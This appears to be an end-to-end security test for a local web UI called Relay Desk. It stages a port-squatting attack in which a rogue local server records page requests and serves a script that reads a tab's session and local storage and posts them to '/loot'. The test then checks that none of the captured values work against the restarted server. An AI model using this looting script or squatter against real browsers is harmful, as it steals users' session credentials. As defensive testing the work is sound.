// Issue 12 item 6, the squat-and-release attack, built for real: `relay ui` stops while two
// pages are open in chromium; another local program takes its port, listens to everything the
// pages send while they look for the server (and serves its own page to the one that reloads,
// which reads that tab's storage), then lets the port go; `relay ui` starts again on the same
// port and data folder. The page that stayed open gets back in by itself; nothing the squatter
// heard or read works against the restarted server, and no resume key ever reached it.
import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RelayApi } from '../../src/shared/api.js';
import { launchBrowser, type TestBrowser } from '../e2e/support/browser.js';
import { until } from '../e2e/support/pages.js';
import { openSocket } from '../helpers/socket.js';
import { tempDir } from '../helpers/temp.js';
import { httpRequest, refusalCode, sessionProtocols, startRelayUi, type RelayUiProcess } from '../helpers/ui.js';

declare const window: { relay: RelayApi };
declare const document: { querySelector(selector: string): unknown };

const PATH = process.env.PATH ?? '/usr/bin:/bin';
const TOKEN = /[A-Za-z0-9_-]{43}/g;

/** What the squatter heard: every request's method, path, headers and body. */
interface Heard {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** The page the squatter serves to a tab that reloads: it sends that tab's storage home. */
const LOOTING_PAGE = `<!doctype html><title>squatter</title><script>
  const loot = { session: {}, local: {} };
  for (let i = 0; i < sessionStorage.length; i += 1) loot.session[sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i));
  for (let i = 0; i < localStorage.length; i += 1) loot.local[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
  fetch('/loot', { method: 'POST', body: JSON.stringify(loot) }).then(() => { document.title = 'looted'; });
</script>`;

/** Takes `port` on 127.0.0.1 and records everything; answers what a naive server would. */
async function squat(port: number): Promise<{ heard: Heard[]; release(): Promise<void> }> {
  const heard: Heard[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    request.on('end', () => {
      heard.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      if (request.method === 'GET') {
        response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
        response.end(LOOTING_PAGE);
        return;
      }
      // "Yes, I know you": whatever a page asks, in the shapes it expects.
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.end(JSON.stringify({ serverNonce: 'N'.repeat(43), proof: 'P'.repeat(43), resume: { id: 'I'.repeat(43), key: 'K'.repeat(43) }, session: 'S'.repeat(43) }));
    });
  });
  server.on('upgrade', (request, socket) => {
    heard.push({ method: 'UPGRADE', url: request.url ?? '', headers: request.headers, body: '' });
    socket.destroy();
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => resolve());
  });
  return {
    heard,
    release: async () => {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

describe('relay ui: a program that takes the port while it is down, then lets it go', () => {
  let browser: TestBrowser;
  const running: RelayUiProcess[] = [];

  beforeAll(async () => {
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    for (const ui of running) if (ui.child.exitCode === null) await ui.stop();
  });

  it('hears and reads nothing that works after the restart, and the page that stayed open gets back in by itself', async () => {
    const dataDir = tempDir('relay-squat-data-');
    const env = { PATH, HOME: tempDir('relay-squat-home-') };
    const first = await startRelayUi({ args: ['--data-dir', dataDir], env, cwd: tempDir() });
    running.push(first);
    const staying = await browser.newPage();
    await staying.goto(first.link);
    await staying.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    const reloading = await browser.newPage();
    await reloading.goto(await first.newLink());
    await reloading.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    // Every resume key the server handed out so far: none may ever reach the squatter.
    const keysFile = path.join(dataDir, 'ui-sessions.json');
    const keys = (): string[] => (JSON.parse(readFileSync(keysFile, 'utf8')) as { resumeKeys: Array<{ key: string }> }).resumeKeys.map((k) => k.key);
    const keysBefore = keys();
    expect(keysBefore.length).toBeGreaterThanOrEqual(2);

    expect((await first.stop()).exitCode).toBe(0);
    const squatter = await squat(first.port);
    try {
      // The open page looks for its server and finds the squatter; the other tab reloads onto it.
      await until('the open page to knock', () => (squatter.heard.some((h) => h.url === '/api/session/hello') ? true : undefined), 30_000);
      await reloading.reload();
      await reloading.waitForFunction(() => (document as unknown as { title: string }).title === 'looted', undefined, { timeout: 20_000 });
      // Give the open page time for a few more attempts against the squatter.
      await until('more knocks', () => (squatter.heard.filter((h) => h.url === '/api/session/hello').length >= 2 ? true : undefined), 30_000);
    } finally {
      await squatter.release();
    }

    // What the open page sent: hellos carrying a key's public id and a nonce; never a session, never a key.
    const fromStayingPage = squatter.heard.filter((h) => h.url.startsWith('/api/') || h.method === 'UPGRADE');
    expect(fromStayingPage.length).toBeGreaterThan(0);
    expect(fromStayingPage.every((h) => h.url === '/api/session/hello')).toBe(true);
    expect(fromStayingPage.some((h) => h.headers.authorization !== undefined)).toBe(false);
    const loot = JSON.parse(squatter.heard.find((h) => h.url === '/loot')!.body) as { session: Record<string, string> };
    const stolenSession = loot.session['relay-desk.session'];
    expect(stolenSession).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const everything = squatter.heard.map((h) => `${JSON.stringify(h.headers)} ${h.body}`).join('\n');
    for (const key of keysBefore) expect(everything).not.toContain(key);

    // relay ui again, on the same port and data folder.
    const second = await startRelayUi({ args: ['--data-dir', dataDir], env, cwd: tempDir() });
    running.push(second);
    expect(second.port).toBe(first.port);

    // Everything the squatter heard or read, replayed the ways the server accepts credentials.
    const candidates = new Set([...everything.matchAll(TOKEN)].map((match) => match[0]));
    candidates.add(stolenSession!);
    const helloBodies = squatter.heard.filter((h) => h.url === '/api/session/hello').map((h) => JSON.parse(h.body) as { resumeId: string; pageNonce: string });
    for (const secret of candidates) {
      const check = await httpRequest(second.port, { path: '/api/session/check', method: 'POST', headers: { origin: second.origin, authorization: `Bearer ${secret}` } });
      expect([check.status, refusalCode(check)]).toEqual([401, 'SESSION_UNKNOWN']);
      await expect(openSocket(`ws://127.0.0.1:${second.port}/ws`, { origin: second.origin, protocols: sessionProtocols(secret) }).opened).rejects.toMatchObject({ status: 401, code: 'SESSION_UNKNOWN' });
    }
    for (const { resumeId } of helloBodies) {
      // The server proves itself to anyone who names a live key (that gives nothing away)...
      const hello = await httpRequest(second.port, { path: '/api/session/hello', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ resumeId, pageNonce: 'A'.repeat(43) }) });
      if (hello.status !== 200) {
        expect([hello.status, refusalCode(hello)]).toEqual([401, 'RESUME_UNKNOWN']);
        continue;
      }
      // ...but only the page can answer: every value the squatter has, offered as the proof, is refused.
      const { serverNonce } = JSON.parse(hello.body) as { serverNonce: string };
      for (const proof of [...candidates].slice(0, 20)) {
        const again = await httpRequest(second.port, { path: '/api/session/hello', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ resumeId, pageNonce: 'A'.repeat(43) }) });
        const nonce = again.status === 200 ? (JSON.parse(again.body) as { serverNonce: string }).serverNonce : serverNonce;
        const resumed = await httpRequest(second.port, { path: '/api/session/resume', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ serverNonce: nonce, proof }) });
        expect(resumed.status).toBe(401);
        expect(['RESUME_REFUSED', 'RESUME_UNKNOWN']).toContain(refusalCode(resumed));
      }
    }

    // The page that stayed open proves itself to the restarted server and carries on.
    await staying.getByRole('alert').filter({ hasText: 'Relay Desk' }).waitFor({ state: 'detached', timeout: 30_000 });
    expect(await staying.evaluate(() => window.relay.listProjects({}))).toEqual({ ok: true, value: [] });
    await staying.close();
    await reloading.close();
  }, 120_000);
});
